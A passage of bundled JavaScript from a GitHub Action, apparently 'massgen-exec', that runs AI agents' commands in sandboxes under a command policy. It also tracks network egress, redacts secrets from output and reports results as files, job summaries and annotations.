        this.emit = emit;
        this.redact = redact;
        this.maxBytes = maxBytes;
    }
    push(stream, chunk) {
        const text = this.partial[stream] + this.decoders[stream].write(chunk);
        const lines = text.split('\n');
        this.partial[stream] = lines.pop() ?? '';
        for (const line of lines)
            this.line(line);
    }
    /** Emits what is left of an unterminated last line (the step has ended). */
    end() {
        for (const stream of ['stdout', 'stderr']) {
            const rest = this.partial[stream] + this.decoders[stream].end();
            this.partial[stream] = '';
            if (rest)
                this.line(rest);
        }
    }
    line(raw) {
        if (this.cut)
            return;
        const line = raw.replace(/\r$/, '');
        this.shown += Buffer.byteLength(line) + 1;
        if (this.shown > this.maxBytes) {
            this.cut = true;
            this.emit(`… live output cut at ${this.maxBytes} bytes (the results keep the step's output)`);
            return;
        }
        this.emit(this.redact(line));
    }
}

;// CONCATENATED MODULE: ./src/run/workspace-ops.ts
// Changes we make inside an agent's workspace (removing a stale report, unpacking the compare
// trees). In docker mode they run in the agent's own sandbox as the agent's user: the workspace is
// the agent's to rewrite (symlinks included), so a privileged host process must not walk it, and
// files the container user created are the container user's to remove. Local mode has no
// sandbox and no other user, so the same script runs on the host.

const REMOVE_FILE = (/* unused pure expression or super */ null && (`if [ -d "$MGX_PATH" ] && [ ! -L "$MGX_PATH" ]; then echo "is a directory" >&2; exit 1; fi
rm -f -- "$MGX_PATH"`));
const UNPACK = (/* unused pure expression or super */ null && (`set -e
trap 'rm -f -- "$MGX_TAR"' EXIT
rm -rf -- "$MGX_ROOT"
mkdir -p -- "$MGX_ROOT"
tar -x -f "$MGX_TAR" -C "$MGX_ROOT"`));
const UNPACK_MEMBER = (/* unused pure expression or super */ null && (`set -e
trap 'rm -f -- "$MGX_TAR"' EXIT
tar -x -f "$MGX_TAR" -C "$MGX_ROOT" -- "$MGX_MEMBER"`));
const REMOVE_TREE = (/* unused pure expression or super */ null && (`rm -rf -- "$MGX_PATH"`));
function workspace_ops_workspaceOps(shell) {
    const run = async (what, script, vars, ms) => {
        const r = await shell(script, vars, ms);
        if (!r.ok)
            throw new Error(`${what}: ${r.detail.trim().slice(-500) || 'failed'}`);
    };
    return {
        removeFile: (path) => run(`cannot remove ${path}`, REMOVE_FILE, { MGX_PATH: path }, 60_000),
        unpack: (tar, root, ms) => run(`cannot unpack the trees into ${root}`, UNPACK, { MGX_TAR: tar, MGX_ROOT: root }, ms),
        unpackMember: (tar, root, member, ms) => run(`cannot unpack ${member} into ${root}`, UNPACK_MEMBER, { MGX_TAR: tar, MGX_ROOT: root, MGX_MEMBER: member }, ms),
        removeTree: (dir) => run(`cannot remove ${dir}`, REMOVE_TREE, { MGX_PATH: dir }, 300_000)
    };
}
/** The agent's sandbox in docker mode; the host in local mode (bypassing any command prefix). */
function workspace_ops_agentShell(agent, session) {
    if (session.info.mode === 'local')
        return hostShell(agent.workspace);
    return async (script, vars, timeoutMs) => {
        const r = await session.exec({
            command: script,
            cwd: agent.workspace,
            env: vars,
            timeoutMs,
            maxOutputBytes: 64 * 1024
        });
        const ok = r.exitCode === 0 && !r.timedOut && !r.oom;
        const why = r.timedOut ? 'timed out' : r.oom ? 'out of memory' : `exit ${r.exitCode}`;
        return { ok, detail: ok ? '' : `${(r.stderr || r.stdout).trim()} (${why})` };
    };
}
/** Local mode: rm and tar on local files end on their own, so no timeout is applied. */
function hostShell(cwd) {
    return async (script, vars) => {
        let stderr = '';
        const code = await exec.exec('/bin/sh', ['-c', script], {
            cwd,
            env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...vars },
            silent: true,
            ignoreReturnCode: true,
            listeners: { stderr: (d) => void (stderr += d.toString()) }
        });
        return { ok: code === 0, detail: code === 0 ? '' : `${stderr.trim()} (exit ${code})` };
    };
}

;// CONCATENATED MODULE: ./src/run/orchestrate.ts
// Runs a plan: agents in parallel, each agent's steps in order, every command through the policy
// before anything runs. `results` is always the current state, so a run that dies halfway still
// leaves a truthful results.json behind.
















class orchestrate_Run {
    plan;
    opts;
    results;
    redactor;
    sessions = new Set();
    closing = [];
    aborted = false;
    constructor(plan, opts) {
        this.plan = plan;
        this.opts = opts;
        this.redactor = opts.redactor ?? new Redactor();
        this.results = {
            version: 1,
            status: 'running',
            runId: opts.runId,
            startedAt: new Date().toISOString(),
            durationMs: 0,
            config: opts.configLabel,
            totals: emptyTotals(),
            agents: plan.agents.map((a) => ({
                id: a.id,
                mode: a.mode,
                status: 'running',
                durationMs: 0,
                commands: []
            }))
        };
    }
    async execute() {
        const t0 = Date.now();
        try {
            await Promise.all(this.plan.agents.map((a, i) => this.runAgent(a, this.results.agents[i])));
        }
        finally {
            this.finish(Date.now() - t0);
        }
        return this.results;
    }
    /** Marks the run as dead (signal, crash) and brings results up to date. */
    fail(error) {
        this.aborted = true;
        this.results.error ??= error;
        this.finish(Date.now() - Date.parse(this.results.startedAt));
    }
    /** Closes every session still open; a second call waits for what the first started. */
    async closeAll() {
        const open = [...this.sessions];
        this.sessions.clear();
        this.closing.push(...open.map((s) => s.close()));
        await Promise.allSettled(this.closing);
    }
    finish(durationMs) {
        const r = this.results;
        r.durationMs = durationMs;
        r.totals = emptyTotals();
        for (const a of r.agents) {
            countSteps(a.commands, r.totals);
            a.status = agentStatus(a);
        }
        r.status = runStatus(r);
    }
    async runAgent(agent, result) {
        if (agent.steps.length === 0) {
            // Nothing to run (e.g. a MassGen agent without cwd, which gets no command tool): start nothing.
            result.note = 'no commands: nothing ran and no sandbox was started';
            return;
        }
        await this.withSession(agent, result, async (live) => {
            let failed = false;
            for (const step of agent.steps) {
                if (this.aborted)
                    break;
                if (failed)
                    await live.record(skipped(step));
                else
                    failed = stepFails(await live.step(step));
            }
        });
    }
    /**
     * One agent served live (`massgen-exec mcp`): its sandbox started once, `body` given calls to
     * make (each a step recorded like a scripted one), the sandbox closed when `body` returns.
     */
    async serve(body) {
        const t0 = Date.now();
        const agent = this.plan.agents[0];
        try {
            await this.withSession(agent, this.results.agents[0], body);
        }
        finally {
            this.finish(Date.now() - t0);
        }
        return this.results;
    }
    /** Starts the agent's sandbox, runs `body` in it, saves its logs and closes it on every path. */
    async withSession(agent, result, body) {
        const t0 = Date.now();
        const ctx = {
            runId: this.opts.runId,
            outDir: this.opts.outDir,
            // Runtimes name the agent in their own lines.
            log: this.opts.log
        };
        let session;
        try {
            // Without a sandbox nothing else stops a write into a read-only path.
            const policy = await createPolicy({
                ...agent.policy,
                readOnlyRoots: agent.mode === 'local' ? allowedRoots(agent) : undefined
            });
            await prepareWorkspace(agent);
            const started = await this.opts.runtimeFor(agent.mode).start(agent, ctx);
            session = started;
            this.sessions.add(started);
            Object.assign(result, {
                image: started.info.image,
                container: started.info.container,
                limits: started.info.limits
            });
            const record = async (r) => {
                // Everything of the step (output, JUnit names, reasons) before anyone sees it.
                const clean = this.redactor.applyDeep(r);
                result.commands.push(clean);
                await appendStepLog(this.opts.outDir, agent.id, clean);
                this.opts.onStep?.(agent, clean);
                return clean;
            };
            const step = async (s, adjust, signal) => {
                started.beginStep({ index: s.index, name: s.name, egress: egressOn(agent, s) });
                const where = signal ? abandonable(started, signal) : started;
                let r = await this.runStep(agent, s, where, policy);
                this.noteEgress(started, result, r);
                if (this.aborted && r.status !== 'passed' && r.status !== 'skipped') {
                    // The run was stopped under this step: say so instead of reporting its kill as a failure.
                    Object.assign(r, { status: 'error', reason: `interrupted: ${this.results.error}` });
                }
                if (adjust)
                    r = adjust(r);
                return record(r);
            };
            await body({ agent, session: started, policy, step, record });
        }
        catch (e) {
            result.error = this.redactor.apply(describeError(e));
        }
        finally {
            if (session) {
                await session.saveLogs(`${this.opts.outDir}/${agent.id}`).catch((e) => {
                    ctx.log(`[${agent.id}] could not save runtime logs: ${e.message}`);
                });
                this.sessions.delete(session);
                await session
                    .close()
                    .catch((e) => ctx.log(`[${agent.id}] close failed: ${e.message}`));
                // After close: what background processes sent after the last step is in too.
                const egress = session.egressReport();
                if (egress) {
                    result.egress = this.redactor.applyDeep(egress);
                    for (const line of egressLogLines(agent.id, result.egress))
                        ctx.log(line);
                }
            }
            result.durationMs = Date.now() - t0;
        }
    }
    /** The step's egress into its result, and the agent's so far (results.json is live). */
    noteEgress(session, result, r) {
        const egress = session.egressReport();
        if (!egress)
            return;
        const mine = egress.steps.find((s) => s.index === r.index && s.name === r.name);
        if (mine)
            r.egress = mine;
        result.egress = this.redactor.applyDeep(egress);
    }
    async runStep(agent, step, session, policy) {
        const base = describeStep(step);
        const t0 = Date.now();
        try {
            if (step.kind !== 'run') {
                const verdict = policy.checkFile(step.kind, step.path, agent.workspace);
                if (verdict.verdict === 'block') {
                    return { ...base, status: 'blocked', rule: verdict.rule, reason: verdict.reason };
                }
            }
            if (step.kind === 'write_file') {
                await checkFileAccess(agent, step.path, 'write');
                await session.writeFile(step.path, step.content);
                return { ...base, status: 'passed', exitCode: 0, durationMs: Date.now() - t0 };
            }
            if (step.kind === 'read_file') {
                await checkFileAccess(agent, step.path, 'read');
                const text = await session.readFile(step.path, step.offset, step.lineCount);
                return { ...base, status: 'passed', exitCode: 0, stdout: text, durationMs: Date.now() - t0 };
            }
            if (!step.background && (step.junit || step.retries || step.compare)) {
                return await this.runChecked(agent, step, session, policy, base);
            }
            return await this.runCommand(agent, step, session, policy, base);
        }
        catch (e) {
            return { ...base, status: 'error', reason: errorMessage(e), durationMs: Date.now() - t0 };
        }
    }
    /** A step with a report to believe, retries or a base/head comparison (see attempts.ts). */
    async runChecked(agent, step, session, policy, base) {
        const ops = workspaceOps(agentShell(agent, session));
        const attempts = (place, retries) => runAttempts({
            base,
            exec: (p) => this.runCommand(agent, step, session, policy, base, p),
            ops,
            workspace: agent.workspace,
            place,
            reportLabel: step.junit,
            retries,
            stopped: () => this.aborted
        });
        if (step.compare) {
            return runCompare({
                agent,
                step: { ...step, compare: step.compare },
                base,
                baseRef: this.opts.baseRef,
                git: hostGit(),
                openSide: (req) => req.shared
                    ? this.sharedSide(agent, step, session, policy, base, req)
                    : this.freshSide(agent, step, policy, base, req),
                outDir: this.opts.outDir,
                log: this.opts.log,
                weaken: this.opts.weakenCompare
            });
        }
        const place = {
            cwd: step.workDir ?? agent.workspace,
            env: step.env,
            report: step.junit ? resolve(agent.workspace, step.junit) : undefined
        };
        return (await attempts(place, step.retries ?? 0)).result;
    }
    /**
     * A compare side in a sandbox of its own: the agent's plan (image, limits, network, policy)
     * with the side's directory as its only path, started for this side and closed after it.
     */
    async freshSide(agent, step, policy, base, req) {
        const plan = {
            ...agent,
            id: `${agent.id}-compare-${req.label ?? req.side}`,
            workspace: req.root,
            workspaceSource: 'cwd',
            contextPaths: [],
            tempWorkspace: undefined,
            steps: []
        };
        const ctx = {
            runId: this.opts.runId,
            outDir: this.opts.outDir,
            log: this.opts.log
        };
        const session = await this.opts.runtimeFor(agent.mode).start(plan, ctx);
        this.sessions.add(session);
        const box = this.sideBox(plan, step, session, policy, base, join(req.root, req.member));
        // The step's egress (preinstall, at start, had the agent's).
        session.beginStep({ index: step.index, name: step.name, egress: egressOn(agent, step) });
        try {
            await workspaceOps(agentShell(plan, session)).unpackMember(req.tar, req.root, req.member, 600_000);
        }
        catch (e) {
            await box.close();
            throw e;
        }
        return box;
    }
    /** Test-only weakening: the side in the agent's own sandbox (state shared with the other side). */
    async sharedSide(agent, step, session, policy, base, req) {
        const ops = workspaceOps(agentShell(agent, session));
        await ops.unpackMember(req.tar, req.root, req.member, 600_000);
        return {
            ...this.sideBox(agent, step, session, policy, base, join(req.root, req.member)),
            close: () => ops.removeTree(join(req.root, req.member))
        };
    }
    /** `tree`: what the sandbox's user made and must remove (the root itself is ours, and may be its mount point). */
    sideBox(plan, step, session, policy, base, tree) {
        const ops = workspaceOps(agentShell(plan, session));
        return {
            attempts: (place, retries, afterAttempt) => runAttempts({
                base,
                exec: (p) => this.runCommand(plan, step, session, policy, base, p),
                ops,
                workspace: plan.workspace,
                place,
                reportLabel: step.junit,
                retries,
                exactly: true,
                afterAttempt,
                stopped: () => this.aborted
            }),
            exec: async (command, place) => {
                const r = await session.exec({
                    command,
                    cwd: place.cwd,
                    env: place.env,
                    timeoutMs: step.timeoutSec * 1000,
                    maxOutputBytes: plan.maxOutputBytes
                });
                return { exitCode: r.exitCode, stdout: r.stdout };
            },
            close: async () => {
                this.sessions.delete(session);
                await ops.removeTree(tree).catch((e) => this.opts.log(`[${plan.id}] ${e.message}`));
                await session.close();
            }
        };
    }
    async runCommand(agent, step, session, policy, base, place = { cwd: step.workDir ?? agent.workspace, env: step.env }) {
        const command = place.command ?? step.run;
        const verdict = policy.check(command, { cwd: place.cwd });
        if (verdict.verdict === 'block') {
            return { ...base, status: 'blocked', rule: verdict.rule, reason: verdict.reason };
        }
        const cwd = await resolveWorkDir(agent, place.cwd);
        const req = { command, cwd, env: place.env, maxOutputBytes: agent.maxOutputBytes };
        if (step.background) {
            await session.execBackground(req, step.name ?? `step ${step.index + 1}`);
            return { ...base, status: 'passed', reason: 'started in the background' };
        }
        const onOutput = this.opts.onOutput;
        const live = onOutput
            ? new LiveLines((line) => onOutput(agent, line), (text) => this.redactor.apply(text), agent.maxOutputBytes)
            : undefined;
        const r = await session
            .exec({
            ...req,
            timeoutMs: step.timeoutSec * 1000,
            ...(live ? { onOutput: (stream, chunk) => live.push(stream, chunk) } : {})
        })
            .finally(() => live?.end());
        const out = {
            ...base,
            exitCode: r.exitCode,
            durationMs: r.durationMs,
            stdout: r.stdout,
            stderr: r.stderr,
            truncated: r.truncated
        };
        const note = r.note ? ` (${r.note})` : '';
        if (r.sandboxLost)
            return { ...out, status: 'error', reason: `${r.sandboxLost}${note}` };
        if (r.oom)
            return { ...out, status: 'oom', reason: `killed: out of memory${note}` };
        if (r.diskLimit)
            return { ...out, status: 'failed', reason: `${r.diskLimit}${note}` };
        if (r.timedOut) {
            return { ...out, status: 'timeout', reason: `timed out after ${step.timeoutSec} s${note}` };
        }
        if (r.violation)
            return { ...out, status: 'failed', reason: `${r.violation}${note}` };
        if (r.exitCode === step.expectExit)
            return { ...out, status: 'passed', reason: r.note };
        const code = r.exitCode === null ? 'no exit code (killed by a signal)' : `exit ${r.exitCode}`;
        const expected = step.expectExit !== 0 ? `, expected ${step.expectExit}` : '';
        return { ...out, status: 'failed', reason: `${code}${expected}${note}` };
    }
}
/** A step's egress: its `egress:` key, else on for every agent that has command_line_egress. */
function egressOn(agent, step) {
    if (!agent.egress)
        return false;
    return step.kind === 'run' ? (step.egress ?? true) : true;
}
function describeStep(step) {
    const command = step.kind === 'run'
        ? step.run
        : step.kind === 'write_file'
            ? `write_file ${step.path}`
            : `read_file ${step.path}`;
    return erroredStep({ index: step.index, name: step.name, command, kind: step.kind }, {
        ...(step.kind === 'run' && step.allowFailure ? { allowFailure: true } : {}),
        ...(step.kind === 'run' && step.background ? { background: true } : {})
    });
}
function skipped(step) {
    return { ...describeStep(step), status: 'skipped', reason: 'an earlier step failed' };
}
/** The session whose commands `signal` abandons (an MCP call cancelled or its client gone). */
function abandonable(session, signal) {
    return new Proxy(session, {
        get(target, prop) {
            if (prop === 'exec')
                return (req) => target.exec({ ...req, signal });
            const v = Reflect.get(target, prop);
            return typeof v === 'function' ? v.bind(target) : v;
        }
    });
}

// EXTERNAL MODULE: ./src/run/scope.ts + 2 modules
var scope = __webpack_require__(80808);
// EXTERNAL MODULE: ./src/runtime/docker/index.ts + 34 modules
var docker = __webpack_require__(21002);
;// CONCATENATED MODULE: ./src/run/secrets.ts

const SECRET_NAME = /TOKEN|SECRET|PASSWORD|PASSWD|KEY|CREDENTIAL|AUTH|COOKIE|SESSION/i;
/**
 * Every value worth hiding: variables named in env_vars, everything taken from env_file, and,
 * with pass_all_env, the host variables whose names look secret.
 */
function secrets_secretValues(plan, hostEnv = process.env) {
    const values = [];
    for (const a of plan.agents) {
        const creds = a.docker?.credentials;
        if (!creds)
            continue;
        values.push(...Object.values(resolveCredentialEnv({ ...creds, passAllEnv: false }, hostEnv).env));
        if (creds.passAllEnv) {
            for (const [k, v] of Object.entries(hostEnv))
                if (v && SECRET_NAME.test(k))
                    values.push(v);
        }
    }
    return values;
}

;// CONCATENATED MODULE: ./src/run/pipeline.ts









function imageResult(r) {
    return {
        image: r.image,
        id: r.id,
        reused: r.reused,
        built: r.built,
        ...(r.pulled ? { pulled: true } : {}),
        ...(r.restored ? { restored: r.restored, restoredFrom: r.restoredFrom } : {}),
        ...(r.savedAs ? { savedAs: r.savedAs } : {}),
        durationMs: r.ms
    };
}

/** results.json for a run that never started (bad config, unknown agent, no engine). */
function failedBeforeStart(opts, runId, error) {
    return {
        version: 1,
        status: 'error',
        runId,
        startedAt: new Date().toISOString(),
        durationMs: 0,
        config: opts.configPath,
        totals: emptyTotals(),
        agents: [],
        error,
        configSource: opts.configRef
            ? { kind: 'revision', path: opts.configPath, ref: opts.configRef }
            : { kind: 'worktree', path: opts.configPath },
        unsafe: { allowed: opts.allowUnsafe ?? [], used: [] }
    };
}
async function pipeline_runPipeline(opts) {
    return runScope(opts, (run) => run.execute());
}
/**
 * The scope every run lives in (`run` and `mcp`): plan, secrets, sandboxes made on demand, signals,
 * cleanup, final redaction (the lifecycle itself is withSandboxes'). `body` does the run's work with
 * the Run (its steps, or a live server).
 */
function runScope(opts, body) {
    return withSandboxes(opts, async (scope) => {
        const { runId, outDir, redactor, log } = scope;
        const write = (results) => writeReports(outDir, results, redactor);
        log(`run ${runId}: results in ${outDir}`);
        let plan;
        try {
            plan = await loadRunPlan(opts.configPath, opts);
        }
        catch (e) {
            if (!isFatalInputError(e))
                throw e;
            const results = failedBeforeStart(opts, runId, describeError(e));
            return { results, exitCode: e.exitCode, reports: write(results), redactor };
        }
        const unsafe = announcePlan(plan, log);
        for (const v of secretValues(plan)) {
            redactor.add(v);
            opts.onSecret?.(v);
        }
        opts.onStart?.(runId, plan);
        const runtimes = scope.runtimes({
            imagePolicy: opts.imagePolicy ?? 'auto',
            imageSources: opts.imageSources,
            // Called once containers start, when `run` exists; the next write records it.
            onImage: (r) => void (run.results.images ??= []).push(imageResult(r))
        });
        const run = new Run(plan, {
            runId,
            outDir,
            configLabel: opts.configPath,
            runtimeFor: (mode) => runtimes.for(mode),
            log,
            redactor,
            baseRef: opts.baseRef,
            weakenCompare: opts.weakenCompare,
            onOutput: opts.onOutput,
            onStep: (agent, step) => {
                write(run.results);
                // What the caller prints (the step line, a failed step's output tail) is redacted too.
                opts.onStep?.(agent, redactor.applyDeep(step));
            }
        });
        run.results.configSource = plan.source;
        run.results.unsafe = unsafe;
        write(run.results);
        // Sessions close before the runtimes clean up what is left of the run.
        scope.defer(() => run.closeAll());
        scope.onInterrupt((sig) => {
            run.fail(`interrupted by ${sig}`);
            write(run.results);
        });
        try {
            await body(run);
        }
        catch (e) {
            run.fail(describeError(e));
        }
        finally {
            await scope.close();
        }
        // What the caller renders (job summary, annotations, outputs) is as redacted as the files.
        const results = redactor.applyDeep(run.results);
        const reports = write(results);
        return { results, exitCode: exitCodeFor(results.status), reports, plan, redactor };
    });
}
/** The config's warnings, where it came from and the unsafe settings the invoker allowed. */
function announcePlan(plan, log) {
    for (const line of [...warningLines(plan), ...ignoredLines(plan)])
        log(line);
    log(`config: ${describeSource(plan.source)}`);
    const unsafe = unsafeSummary(plan);
    if (unsafe.allowed.length)
        log(`unsafe settings allowed by the invoker: ${unsafe.allowed.join(', ')}` +
            (unsafe.used.length
                ? ` (used: ${unsafe.used.map((u) => `${u.class} ${u.key}`).join('; ')})`
                : ''));
    return unsafe;
}

// EXTERNAL MODULE: ./src/report/compare.ts
var compare = __webpack_require__(50181);
// EXTERNAL MODULE: ./src/report/egress.ts
var egress = __webpack_require__(77079);
// EXTERNAL MODULE: ./src/report/job-summary.ts
var job_summary = __webpack_require__(5236);
// EXTERNAL MODULE: ./src/report/markdown.ts
var markdown = __webpack_require__(54285);
;// CONCATENATED MODULE: ./src/report/totals.ts
function totals_emptyTotals() {
    return {
        commands: 0,
        passed: 0,
        failed: 0,
        blocked: 0,
        timedOut: 0,
        oom: 0,
        errored: 0,
        skipped: 0
    };
}
function totals_countSteps(steps, into = totals_emptyTotals()) {
    for (const s of steps) {
        into.commands++;
        if (s.status === 'passed')
            into.passed++;
        else if (s.status === 'failed')
            into.failed++;
        else if (s.status === 'blocked')
            into.blocked++;
        else if (s.status === 'timeout')
            into.timedOut++;
        else if (s.status === 'oom')
            into.oom++;
        else if (s.status === 'error')
            into.errored++;
        else if (s.status === 'skipped')
            into.skipped++;
    }
    return into;
}
/** A step that counts against its agent: not passed, not skipped, not allowed to fail. */
function totals_stepFails(s) {
    return s.status !== 'passed' && s.status !== 'skipped' && !s.allowFailure;
}
/** The steps that count against their agents (allow_failure ones left out), counted. */
function failingTotals(r) {
    const into = totals_emptyTotals();
    for (const a of r.agents)
        totals_countSteps(a.commands.filter(totals_stepFails), into);
    return into;
}
function totals_agentStatus(a) {
    if (a.error)
        return 'error';
    return a.commands.some(totals_stepFails) ? 'failed' : 'passed';
}
function totals_runStatus(r) {
    if (r.error || r.agents.some((a) => a.status === 'error'))
        return 'error';
    return r.agents.some((a) => a.status === 'failed') ? 'failed' : 'passed';
}
function totals_exitCodeFor(status) {
    return status === 'passed' ? 0 : status === 'failed' ? 1 : 2;
}

// EXTERNAL MODULE: ./src/action/artifact.ts
var artifact = __webpack_require__(48338);
// EXTERNAL MODULE: ./src/action/engine-options.ts + 1 modules
var engine_options = __webpack_require__(40804);
// EXTERNAL MODULE: ./src/action/inputs.ts
var inputs = __webpack_require__(81729);
// EXTERNAL MODULE: ./src/action/log.ts
var log = __webpack_require__(58592);
;// CONCATENATED MODULE: ./src/action/main.ts
// The action's main step: inputs → engine → reports, outputs, annotations, artifact.













async function run() {
    try {
        const inputs = getInputs();
        if (inputs.mode === 'verify-isolation') {
            const { runVerifyIsolationAction } = await __webpack_require__.e(/* import() */ 496).then(__webpack_require__.bind(__webpack_require__, 50496));
            await runVerifyIsolationAction(inputs);
            return;
        }
        if (inputs.mode === 'serve') {
            const { startServer } = await Promise.resolve(/* import() */).then(__webpack_require__.bind(__webpack_require__, 31101));
            await startServer(inputs);
            return;
        }
        await runCommands(inputs);
    }
    catch (e) {
        core.setFailed(isFatalInputError(e) ? describeError(e) : (e.stack ?? String(e)));
        // Bad input and an unusable machine exit 2, as the CLI does (setFailed says 1).
        process.exitCode = exitCodeOf(e) ?? 1;
    }
}
async function runCommands(inputs) {
    const outcome = await runPipeline({
        ...engineOptions(inputs),
        defaultTimeoutSec: inputs.timeoutSec,
        baseRef: inputs.baseRef,
        surface: 'action',
        caCertificates: inputs.caCertificates,
        onStep: (agent, s) => {
            core.info(safeLine(`[${agent.id}] ${stepLine(s)}`));
            if (failedLike(s))
                for (const l of outputTail(s))
                    core.info(safeLine(`[${agent.id}]     ${l}`));
        },
        onOutput: inputs.quiet
            ? undefined
            : (agent, line) => core.info(safeLine(`[${agent.id}] ${line}`))
    });
    await report(inputs, outcome);
}
async function report(inputs, outcome) {
    const r = outcome.results;
    logGroups(r);
    annotate(r);
    let artifactId = '';
    let artifactUrl = '';
    if (inputs.uploadArtifacts) {
        const up = await (0,artifact/* uploadArtifact */.mz)(inputs, [inputs.config]);
        if (up.ok) {
            artifactId = String(up.id);
            artifactUrl = up.url ?? '';
        }
    }
    try {
        await lib_core/* summary */.z.addRaw((0,job_summary/* renderJobSummary */.qE)(r, artifactUrl || undefined)).write();
    }
    catch (e) {
        lib_core/* warning */.$e(`could not write the job summary: ${e.message}`);
    }
    const t = r.totals;
    lib_core/* setOutput */.uH('status', r.status);
    lib_core/* setOutput */.uH('results', outcome.reports.resultsFile);
    lib_core/* setOutput */.uH('passed', t.passed);
    lib_core/* setOutput */.uH('failed', t.failed);
    lib_core/* setOutput */.uH('blocked', t.blocked);
    lib_core/* setOutput */.uH('timed-out', t.timedOut);
    lib_core/* setOutput */.uH('artifact-id', artifactId);
    lib_core/* setOutput */.uH('artifact-url', artifactUrl);
    const compared = (0,compare/* compareOutputs */.Od)(r);
    lib_core/* setOutput */.uH('verdict', compared.verdict);
    lib_core/* setOutput */.uH('fail-to-pass', compared.failToPass);
    const verdict = failureMessage(r, inputs.failOn);
    if (verdict)
        lib_core/* setFailed */.C1(verdict);
}
/** Why the step fails under `fail-on`, or undefined. Errors (config, engine) always fail. */
function failureMessage(r, failOn) {
    if (r.status === 'error')
        return `massgen-exec: ${r.error ?? 'a run error occurred (see the log)'}`;
    if (failOn === 'not-caught') {
        const why = (0,compare/* notCaughtMessage */.FK)(r);
        if (why)
            return why;
    }
    if (failOn === 'never' || r.status === 'passed')
        return undefined;
    // Only the steps that fail the run: an allow_failure step is reported, never counted here.
    const t = failingTotals(r);
    if (failOn === 'blocked' && t.blocked === 0)
        return undefined;
    const allowed = r.agents
        .flatMap((a) => a.commands)
        .filter((s) => s.allowFailure && s.status !== 'passed' && s.status !== 'skipped').length;
    const also = allowed > 0 ? ` (and ${allowed} allowed to fail, not counted)` : '';
    return `massgen-exec: ${t.failed} failed, ${t.blocked} blocked, ${t.timedOut} timed out, ${t.oom} out of memory, ${t.errored} errors${also}`;
}
function logGroups(r) {
    for (const a of r.agents) {
        lib_core/* startGroup */.Oh((0,log/* safeLine */.o)(`${a.id}: ${a.status} (${a.mode}${a.image ? `, ${a.image}` : ''})`));
        if (a.error)
            lib_core/* info */.pq((0,log/* safeLine */.o)(`error: ${a.error}`));
        for (const s of a.commands) {
            lib_core/* info */.pq((0,log/* safeLine */.o)((0,markdown/* stepLine */.l6)(s)));
            if (s.status !== 'passed' && s.status !== 'skipped') {
                (0,log/* printUntrusted */.Q)([s.stdout, s.stderr].filter(Boolean).join('\n').slice(-8000));
            }
        }
        lib_core/* endGroup */.N4();
    }
}
function annotate(r) {
    for (const a of r.agents) {
        if (a.error)
            lib_core/* error */.z3(a.error, { title: `massgen-exec: agent ${a.id}` });
        for (const s of a.commands) {
            const what = s.status === 'blocked'
                ? `blocked: ${s.rule ?? 'policy'}`
                : s.status === 'failed'
                    ? `failed: exit ${s.exitCode}`
                    : s.status === 'timeout' || s.status === 'oom' || s.status === 'error'
                        ? s.status
                        : '';
            if (!what || s.allowFailure)
                continue;
            const label = s.name ?? s.command.split('\n')[0].slice(0, 100);
            lib_core/* error */.z3(`${what} — ${label}${s.reason ? ` (${s.reason})` : ''}`, {
                title: `massgen-exec: ${a.id} step ${s.index + 1}`
            });
        }
    }
    // Whatever fail-on says: a verdict that is not catches-change (error is annotated above).
    for (const { title, message } of (0,compare/* verdictAnnotations */.GE)(r))
        lib_core/* error */.z3(message, { title });
    // A refusal is the allowlist working, not a failure: a warning, naming the step.
    for (const { title, message } of (0,egress/* egressAnnotations */.um)(r))
        lib_core/* warning */.$e(message, { title });
}

// EXTERNAL MODULE: ./src/action/state.ts
var state = __webpack_require__(33175);
;// CONCATENATED MODULE: ./src/action/serve.ts
// mode: serve. Main starts `massgen-exec mcp --http 127.0.0.1:0` (the bundled CLI) detached, waits
// until it listens, and sets outputs mcp-url and mcp-token (a secret); later steps of the job (an
// agent) call it. The post step stops it with SIGTERM (it kills a running call, removes the
// sandbox and finishes results.json), then uploads the artifact and writes the job summary.












const PID = 'mcpPid';
const LOG = 'mcpLog';
const START_TIMEOUT_MS = 15 * 60_000;
/** The bundled CLI beside this bundle (dist/cli/index.js). */
function cliPath() {
    return (0,external_node_path_.join)((0,external_node_path_.dirname)((0,external_node_url_.fileURLToPath)(import.meta.url)), 'cli', 'index.js');
}
async function startServer(inputs) {
    const agent = await servedAgent(inputs);
    const runId = (0,scope/* newRunId */.F)();
    (0,state/* saveRunState */.i)(runId, inputs.cleanup);
    const temp = process.env.RUNNER_TEMP || (0,external_node_os_.tmpdir)();
    const tokenFile = (0,external_node_path_.join)(temp, `massgen-exec-mcp-${runId}.token`);
    const token = (0,external_node_crypto_.randomBytes)(32).toString('base64url');
    (0,external_node_fs_.writeFileSync)(tokenFile, token + '\n', { mode: 0o600 });
    lib_core/* setSecret */.Pq(token);
    const logFile = (0,external_node_path_.join)(temp, `massgen-exec-mcp-${runId}.log`);
    const args = [
        cliPath(),
        'mcp',
        inputs.config,
        '--agent',
        agent,
        '--out',
        (0,external_node_path_.resolve)(inputs.outputDir),
        '--working-directory',
        inputs.workingDirectory,
        '--image-policy',
        inputs.imagePolicy,
        '--http',
        '127.0.0.1:0',
        '--token-file',
        tokenFile,
        '--run-id',
        runId,
        ...(inputs.timeoutSec ? ['--timeout', String(inputs.timeoutSec)] : [])
    ];
    const fd = (0,external_node_fs_.openSync)(logFile, 'a');
    const child = (0,external_node_child_process_.spawn)(process.execPath, args, { detached: true, stdio: ['ignore', fd, fd] });
    (0,external_node_fs_.closeSync)(fd);
    child.unref();
    lib_core/* saveState */.LZ(PID, String(child.pid));
    lib_core/* saveState */.LZ(LOG, logFile);
    const url = await listening(logFile, () => child.exitCode);
    lib_core/* info */.pq(`massgen-exec: MCP server for agent ${agent} at ${url} (log: ${logFile})`);
    lib_core/* setOutput */.uH('mcp-url', url);
    lib_core/* setOutput */.uH('mcp-token', token);
    lib_core/* setOutput */.uH('results', (0,external_node_path_.join)((0,external_node_path_.resolve)(inputs.outputDir), 'results.json'));
}
async function servedAgent(inputs) {
    if (inputs.agents?.length === 1)
        return inputs.agents[0];
    if (inputs.agents && inputs.agents.length > 1)
        throw new errors/* UsageError */.eb('mode serve serves one agent: give exactly one in input "agents"');
    const plan = await (0,run_plan/* loadRunPlan */.dU)(inputs.config, { workingDirectory: inputs.workingDirectory });
    if (plan.agents.length !== 1)
        throw new errors/* UsageError */.eb(`mode serve serves one agent: name it in input "agents" (the config has ${plan.agents.map((a) => a.id).join(', ')})`);
    return plan.agents[0].id;
}
/** Waits for the server's "at http://…" line; fails with its log when it exits first. */
async function listening(logFile, exited) {
